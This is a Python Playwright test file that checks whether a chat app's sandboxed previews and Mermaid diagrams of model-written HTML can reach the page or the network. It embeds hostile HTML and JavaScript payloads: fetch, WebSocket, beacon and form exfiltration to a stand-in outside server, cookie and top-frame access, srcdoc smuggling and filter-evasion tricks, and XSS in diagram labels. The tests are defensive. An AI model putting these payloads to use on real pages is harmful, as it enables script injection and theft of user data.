"""The frames of diagrams and previews. Their content can access neither the page nor any server."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Frame, expect

from tests.browser.person import Person
from tests.browser.test_chat import reply
from tests.support.server import Server
from tests.wire.server import WireServer

HOSTILE = """```html
<!doctype html>
<link rel="preconnect" href="{there}/preconnect">
<link rel="stylesheet" href="{there}/style">
<link rel="prefetch" href="{there}/prefetch">
<script src="{there}/script"></script>
<script type="module">import("{there}/module").catch(() => {{}})</script>
<img src="{there}/image"><video src="{there}/video"></video><object data="{there}/object"></object>
<iframe src="{there}/frame"></iframe><iframe srcdoc="<script>top.document.title = 'taken'</script>"></iframe>
<form action="{there}/form" method="post"><button id="send">Send</button></form>
<a id="link" href="{there}/link" target="_blank" ping="{there}/ping">Link</a>
<a id="above" href="{there}/above" target="_top">Above</a>
<style>body {{ background: url({there}/background) }} @import url({there}/import);</style>
<div><template shadowrootmode="closed">
  <iframe srcdoc="<script>parent.postMessage('shadow', '*')</script>"></iframe>
</template></div>
<iframe src="javascript:parent.postMessage('url', '*')"></iframe>
<p id="results"></p>
<script>
window.results = {{}};
const heard = [];
addEventListener("message", ({{ data }}) => heard.push(data));
document.write("<iframe src");
document.write("doc=\\"<script>parent.postMessage('written', '*')<\\/script>\\"></iframe>");
const attempt = async (name, act) => {{
  try {{ results[name] = String(await act()); }} catch (error) {{ results[name] = error.name; }}
}};
(async () => {{
  await attempt("fetch", () => fetch("{there}/fetch", {{ mode: "no-cors" }}));
  await attempt("own server", () => fetch("{here}/session-list"));
  await attempt("page", () => parent.document.title);
  await attempt("top", () => top.document.cookie);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("navigate top", () => {{ top.location = "{there}/top"; return top.location.href; }});
  await attempt("socket", () => new Promise((good, bad) => {{
    const socket = new WebSocket("{socket}/socket");
    socket.onopen = good; socket.onerror = () => bad(new Error("closed"));
  }}));
  await attempt("worker", () => new Promise((good, bad) => {{
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('{there}/worker'); postMessage(1)"])));
    worker.onmessage = good; worker.onerror = () => bad(new Error("refused"));
  }}));
  await attempt("window", () => window.open("{there}/window"));
  await attempt("rtc", () => typeof RTCPeerConnection + typeof webkitRTCPeerConnection + typeof WebTransport);
  await attempt("nested", () => {{
    const frame = document.body.appendChild(document.createElement("iframe"));
    return typeof frame.contentWindow.RTCPeerConnection;
  }});
  const inner = (text) => `<script>parent.postMessage('${{text}}' + typeof RTCPeerConnection, '*')<\\/script>`;
  const framed = (change) => change(document.body.appendChild(document.createElement("iframe")));
  const word = "src" + "doc";
  await attempt("property", () => framed((frame) => {{ frame[word] = inner("property"); }}));
  await attempt("attribute", () => framed((frame) => frame.setAttribute(word, inner("attribute"))));
  await attempt("node", () => framed((frame) => {{
    const node = document.createAttribute(word);
    frame.setAttributeNode(node);
    node.value = inner("node");
  }}));
  await attempt("url", () => framed((frame) => {{ frame.src = "javascript:parent.postMessage('url set', '*')"; }}));
  RegExp.prototype.exec = () => null;
  RegExp.prototype.test = () => false;
  await attempt("html", () => document.body.insertAdjacentHTML("beforeend", `<iframe ${{word}}="${{inner("html")}}">`));
  const early = `<li${{""}}nk rel="preconnect" href="{there}">`;
  await attempt("early", () => document.body.insertAdjacentHTML("beforeend", early));
  await attempt("policy", () => trustedTypes.createPolicy("second", {{ createHTML: (html) => html }}));
  await new Promise((done) => {{
    framed((last) => {{
      last.onload = () => setTimeout(done);
      last[word] = inner("last");
    }});
  }});
  results["frames within"] = heard.join();
  navigator.sendBeacon("{there}/beacon", "x");
  parent.postMessage({{ type: "send", height: 5 }}, "*");
  parent.postMessage({{ error: "made up" }}, "*");
  send.click(); link.click(); above.click();
  document.querySelector("#results").textContent = "done";
}})();
</script>
```"""
LINKS = """```html
<!doctype html>
<link rel="preconnect" href="THERE/markup"><LINK/rel=preconnect href=THERE/other>
<p id="results"></p>
<script>
const link = '<li' + 'nk rel="preconnect" href="THERE/html">';
document.head.innerHTML += link;
document.write(link);
document.querySelector("#results").textContent = document.querySelectorAll("link").length + " links";
</script>
```"""
LEAVING = """```html
<p>Leaving</p>
<script>setTimeout(() => { location.href = "THERE/navigation?secret" }, 0)</script>
```"""
FORMS = """```html
<form id="add"><input id="item" required><button>Add</button></form><ul id="items"></ul>
<dialog open><form method="dialog"><button>Close</button></form></dialog>
<form action="THERE/get"><input name="secret" value="1"><button class="leak">Get</button></form>
<form action="THERE/post" method="post"><input name="secret" value="1"><button class="leak">Post</button></form>
<form><input name="secret" value="1"><button class="leak" formaction="THERE/formaction">Action</button></form>
<form><button class="leak" formmethod="post" formaction="THERE/both">Both</button></form>
<form action="THERE/blank" target="_blank"><button class="out">Window</button></form>
<form action="THERE/top" method="post" target="_top"><button class="out">Top</button></form>
<form action="THERE/parent" method="post" target="_parent"><button class="out">Parent</button></form>
<form action="javascript:location.href = 'THERE/javascript'"><button class="leak">Script</button></form>
<form action="HERE/session-list" method="post"><button class="leak">Own</button></form>
<script>
const best = Number(localStorage.getItem("best") ?? 0);
localStorage.best = best + 1;
sessionStorage.setItem("name", "Ana");
document.querySelector("#add").addEventListener("submit", (event) => {
  event.preventDefault();
  const item = document.createElement("li");
  const stored = [localStorage.getItem("best"), localStorage.length, Object.keys(sessionStorage), localStorage.none];
  item.textContent = [document.querySelector("#item").value, ...stored].join();
  document.querySelector("#items").append(item);
});
</script>
```"""
# Sends the form of a button. The listeners keep the preview from preventing this, and report what the policy blocks.
SEND = """(button) => {
  document.addEventListener("submit", (event) => event.stopPropagation());
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    parent.postMessage({ directive: effectiveDirective }, "*");
  });
  setTimeout(() => button.click());
}"""
# Firefox reports that the policy blocks a form. Chromium replaces the preview by an error page.
HEAR = """() => {
  window.isBlocked = false;
  addEventListener("message", ({ data }) => (isBlocked ||= data.directive === "form-action"));
  document.querySelector("iframe").addEventListener("load", () => (isBlocked = true));
}"""
DIAGRAM = """```mermaid
%%{init: {"securityLevel": "loose", "themeCSS": "svg { background: url(THERE/e) } @import url(THERE/f);"}}%%
graph TD
  A["<img src=x onerror=fetch('THERE/a')><script>fetch('THERE/b')</script>Start"] --> B[End]
  click A href "javascript:fetch('THERE/c')"
  click B href "THERE/d"
```"""


class Elsewhere:
    """A server that must not be called. It records connections and requests."""

    def __init__(self) -> None:
        self.calls: list[bytes] = []
        self.connected = asyncio.Event()
        self.address = ""

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.calls.append(b"connected")
        self.connected.set()
        self.calls.append(await reader.readline())
        writer.write(b"HTTP/1.0 204 No Content\r\n\r\n")
        writer.close()

    async def was_not_called(self) -> None:
        """Check that there were no calls. Then call the server, which proves that it can be called."""
        reader, writer = await asyncio.open_connection("127.0.0.1", int(self.address.rpartition(":")[2]))
        writer.write(b"GET /control\r\n")
        await reader.read()
        writer.close()
        assert self.calls == [b"connected", b"GET /control\r\n"]


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere() -> AsyncIterator[Elsewhere]:
    calls = Elsewhere()
    listener = await asyncio.start_server(calls.answer, "127.0.0.1", 0)
    calls.address = f"http://127.0.0.1:{listener.sockets[0].getsockname()[1]}"
    yield calls
    listener.close()


@pytest_asyncio.fixture(loop_scope="session")
async def bea(browser: Browser, server: Server) -> Person:
    """A user whose console may have reports, because the browser reports what it blocks."""
    return await Person.in_a_session(browser, server.link)


async def inside(person: Person, address: str) -> Frame:
    element = await person.page.locator(f"iframe[src='{address}']").element_handle()
    frame = await element.content_frame()
    assert frame
    await frame.wait_for_load_state()
    return frame


async def answered(person: Person, model: WireServer, text: str) -> None:
    model.script(reply(text))
    await person.say("Show me")
    await expect(person.answers).to_have_attribute("data-status", "complete")


async def test_preview_reaches_neither_the_page_nor_a_server(
    bea: Person, server: Server, model: WireServer, elsewhere: Elsewhere
) -> None:
    """MSG-12: scripts in a preview try every way to the page and to the network.

    All fail, and nothing arrives at another server.
    """
    socket = elsewhere.address.replace("http", "ws")
    await answered(bea, model, HOSTILE.format(there=elsewhere.address, here=server.address, socket=socket))
    title = await bea.page.title()
    await bea.answers.get_by_role("button", name="Preview").click()
    frame = await inside(bea, "/frames/preview")
    await expect(frame.locator("#results")).to_have_text("done")
    assert await frame.evaluate("results") == {
        "fetch": "TypeError",
        "own server": "TypeError",
        "page": "SecurityError",
        "top": "SecurityError",
        "cookie": "SecurityError",
        "storage": "0",
        "navigate top": "SecurityError",
        "socket": "Error",
        "worker": "Error",
        "window": "null",
        "rtc": "undefinedundefinedundefined",
        "nested": "SecurityError",
        "property": "undefined",
        "attribute": "undefined",
        "node": "undefined",
        "url": "undefined",
        "html": "undefined",
        "early": "undefined",
        "policy": "TypeError",
        "frames within": "",
    }
    assert (await bea.page.title(), len(bea.page.context.pages)) == (title, 1)
    await elsewhere.was_not_called()


@pytest.mark.both_browsers
async def test_preview_makes_no_connections_in_advance(bea: Person, model: WireServer, elsewhere: Elsewhere) -> None:
    """MSG-12: a policy does not cover `preconnect`, so the links of a preview are removed."""
    await answered(bea, model, LINKS.replace("THERE", elsewhere.address))
    await bea.answers.get_by_role("button", name="Preview").click()
    frame = await inside(bea, "/frames/preview")
    await expect(frame.locator("#results")).to_have_text("0 links")
    await elsewhere.was_not_called()


@pytest.mark.parametrize("browser", ["firefox"], indirect=True)
async def test_connections_in_advance_are_seen(browser: Browser, server: Server, elsewhere: Elsewhere) -> None:
    """MSG-12: a Firefox that makes no connections for `preconnect` would pass the test above without any protection.

    Chromium without a screen makes none.
    """
    page = await browser.new_page()
    await page.goto(f"{server.address}/frames/preview")
    made = "(href) => document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href}))"
    await page.evaluate(made, elsewhere.address)
    async with asyncio.timeout(20):
        await elsewhere.connected.wait()
    await page.close()


@pytest.mark.both_browsers
async def test_forms_of_a_preview_work_but_send_nothing(
    bea: Person, server: Server, model: WireServer, elsewhere: Elsewhere
) -> None:
    """MSG-12: a script handles a form and finds a storage, but no form leads to a server, another page or a window."""
    await answered(bea, model, FORMS.replace("THERE", elsewhere.address).replace("HERE", server.address))
    preview = bea.answers.get_by_role("button", name="Preview")
    await preview.click()
    frame = await inside(bea, "/frames/preview")
    await frame.locator("#item").fill("Milk")
    await frame.locator("#item").press("Enter")
    await expect(frame.locator("#items li")).to_have_text(["Milk,1,1,name,"])
    await frame.get_by_role("button", name="Close").click()
    await expect(frame.locator("dialog")).to_be_hidden()
    address, sent = bea.page.url, list[str]()
    bea.page.context.on("request", lambda request: sent.append(request.url))
    await frame.evaluate("document.querySelectorAll('.leak, .out').forEach((button) => button.click())")
    await expect(frame.locator("#items li")).to_have_count(1)
    for number in range(await frame.locator(".leak").count()):
        await bea.page.locator("iframe").evaluate("(frame) => frame.remove()")
        await preview.click()
        frame = await inside(bea, "/frames/preview")
        await bea.page.evaluate(HEAR)
        for button in await frame.locator(".out").all():
            await button.evaluate(SEND)
        await frame.locator(".leak").nth(number).evaluate(SEND)
        await bea.page.wait_for_function("() => isBlocked")
    assert not [url for url in sent if "/session-list" in url or elsewhere.address in url]
    assert (bea.page.url, len(bea.page.context.pages)) == (address, 1)
    await elsewhere.was_not_called()


async def test_preview_cannot_navigate_to_another_address(bea: Person, model: WireServer, elsewhere: Elsewhere) -> None:
    """MSG-12: the page's policy blocks the navigation of a frame, which the frame's own policy cannot."""
    await answered(bea, model, LEAVING.replace("THERE", elsewhere.address))
    async with bea.page.expect_event("console", lambda message: "frame-src" in message.text):
        await bea.answers.get_by_role("button", name="Preview").click()
    await elsewhere.was_not_called()


async def test_diagram_runs_nothing_that_a_model_wrote(bea: Person, model: WireServer, elsewhere: Elsewhere) -> None:
    """MSG-12: labels, links and styles of a diagram neither run scripts nor send requests."""
    await answered(bea, model, DIAGRAM.replace("THERE", elsewhere.address))
    await expect(bea.answers.locator("iframe.diagram")).to_be_visible()
    frame = await inside(bea, "/frames/diagram")
    await expect(frame.locator("svg").first).to_contain_text("Start")
    assert await frame.locator("svg script, svg [onerror], svg [href^='javascript']").count() == 0
    assert await frame.evaluate("fetch(location.href).catch((error) => error.name)") == "TypeError"
    await elsewhere.was_not_called()
